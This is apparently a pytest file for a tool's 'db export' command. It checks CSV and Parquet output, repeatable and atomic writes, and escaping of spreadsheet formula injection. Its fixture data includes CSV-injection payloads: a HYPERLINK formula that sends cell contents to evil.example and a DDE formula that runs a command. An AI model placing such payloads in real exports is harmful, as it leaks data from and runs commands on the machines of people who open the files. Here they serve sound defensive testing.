"""`flakelens db export`: frames as files, which no spreadsheet takes for formulas and no reader sees half written."""

from __future__ import annotations

import csv
import json
import sys

import pandas as pd
import pytest

import flakelens
from flakelens.export import export
from flakelens.frames import FRAMES
from tests.builders import a_report, a_run, a_store, started_at
from tests.cli.histories import caller

FORMULAS = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")", "+1+1", "-2+3", "@SUM(A1)", '=cmd|" /C calc"!A0',
)  # fmt: skip
HARMLESS = ("adds 1 + 1", 'it\'s "quoted", with a comma', "日本語 🎉")


@pytest.fixture
def call(tmp_path, monkeypatch, capsys):
    return caller(tmp_path, monkeypatch, capsys)


@pytest.fixture
def db(tmp_path):
    titles = dict.fromkeys((*FORMULAS, *HARMLESS), "P")
    runs = [
        a_run(n, reports=[a_report(n, titles, file="=evil.test.ts", variant="@chrome"), a_report(n, {"plain": "F"})])
        for n in range(12)
    ]
    a_store(tmp_path, runs, name="t.db").close()
    return str(tmp_path / "t.db")


def rows_of(path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_every_frame_becomes_a_file_with_its_columns_and_rows(db, call, tmp_path):
    code, out, err = call("--db", db, "db", "export", "out", "--as-of", "2026-12-01")
    assert (code, err) == (0, "")
    assert out.startswith("Wrote 4 files to out:\nruns.csv: 12 rows, ")
    for name, dtypes in FRAMES.items():
        rows = rows_of(tmp_path / "out" / f"{name}.csv")
        assert list(rows[0]) == list(dtypes)
    assert len(rows_of(tmp_path / "out" / "results.csv")) == 12 * (len(FORMULAS) + len(HARMLESS) + 1)
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == [
        "daily.csv", "results.csv", "runs.csv", "tests.csv"
    ]  # fmt: skip


def test_no_cell_is_a_formula_and_none_loses_its_text(db, call, tmp_path):
    call("--db", db, "db", "export", "out", "--as-of", "2026-12-01")
    for name in FRAMES:
        for row in rows_of(tmp_path / "out" / f"{name}.csv"):
            assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    titles = {row["name"] for row in rows_of(tmp_path / "out" / "tests.csv")}
    assert titles == {*(f"'{title}" for title in FORMULAS), *HARMLESS, "plain"}
    first = rows_of(tmp_path / "out" / "results.csv")[0]
    assert (first["file"], first["variant"]) == ("'=evil.test.ts", "'@chrome")


def test_numbers_and_moments_can_be_read_again(db, call, tmp_path):
    call("--db", db, "db", "export", "out", "--as-of", "2026-12-01")
    with flakelens.open(db, as_of=started_at(2000)) as lens:
        frames = {"runs": lens.runs, "daily": lens.daily}
    runs = pd.read_csv(tmp_path / "out" / "runs.csv", parse_dates=["started_at"])
    assert (runs["started_at"] == frames["runs"]["started_at"]).all()
    assert (runs["pass_rate"] == frames["runs"]["pass_rate"].astype(float)).all()
    daily = rows_of(tmp_path / "out" / "daily.csv")
    assert {row["first_attempt_rate"] for row in daily} == {""}  # hidden is empty, not 0


def test_parquet_keeps_the_types(db, call, tmp_path):
    code, out, _ = call("--db", db, "db", "export", "out", "--parquet", "--as-of", "2026-12-01", "--format", "json")
    document = json.loads(out)
    assert (code, document["schema"]) == (0, "flakelens.db-export/1")
    assert next((file["name"], file["rows"]) for file in document["files"]) == ("runs.parquet", 12)
    with flakelens.open(db, as_of=started_at(2000)) as lens:
        for name in FRAMES:
            frame, again = getattr(lens, name), pd.read_parquet(tmp_path / "out" / f"{name}.parquet")
            assert list(again.columns) == list(frame.columns)
            assert len(again) == len(frame)
            numbers = frame.select_dtypes(["Int64", "Float64", "boolean"]).columns
            pd.testing.assert_frame_equal(again[list(numbers)], frame[list(numbers)])
            titles = again.get("name", [])
            assert not any(title.startswith("'") for title in titles)  # Parquet is no spreadsheet


def test_parquet_without_pyarrow_names_the_extra(db, call, monkeypatch, tmp_path):
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    code, out, err = call("--db", db, "db", "export", "out", "--parquet")
    assert (code, out) == (2, "")
    assert "flakelens-junit[parquet]" in err
    assert not (tmp_path / "out").exists()


def test_only_some_frames(db, call, tmp_path):
    code, *_ = call("--db", db, "db", "export", "out", "--only", "daily", "--only", "runs")
    assert code == 0
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == ["daily.csv", "runs.csv"]
    assert call("--db", db, "db", "export", "out", "--only", "nothing")[0] == 2


def test_exporting_again_replaces_and_gives_the_same_bytes(db, call, tmp_path):
    call("--db", db, "db", "export", "out", "--as-of", "2026-12-01")
    before = {path.name: path.read_bytes() for path in (tmp_path / "out").iterdir()}
    (tmp_path / "out" / "runs.csv").write_text("old")
    call("--db", db, "db", "export", "out", "--as-of", "2026-12-01")
    assert {path.name: path.read_bytes() for path in (tmp_path / "out").iterdir()} == before


def test_a_file_in_the_way_and_a_missing_database(db, call, tmp_path):
    (tmp_path / "file").write_text("")
    code, _, err = call("--db", db, "db", "export", "file/below")
    assert code == 2
    assert "cannot be written" in err
    code, _, err = call("--db", "none.db", "db", "export", "out")
    assert code == 5
    assert "There is no database" in err


def test_what_failed_while_it_was_written_leaves_the_old_file(tmp_path):
    class Bad:
        dtypes = ()

        def items(self):
            raise RuntimeError("half way")

    (tmp_path / "runs.csv").write_text("old")
    with pytest.raises(RuntimeError):
        export({"runs": Bad()}, tmp_path)
    assert [(path.name, path.read_text()) for path in tmp_path.iterdir()] == [("runs.csv", "old")]
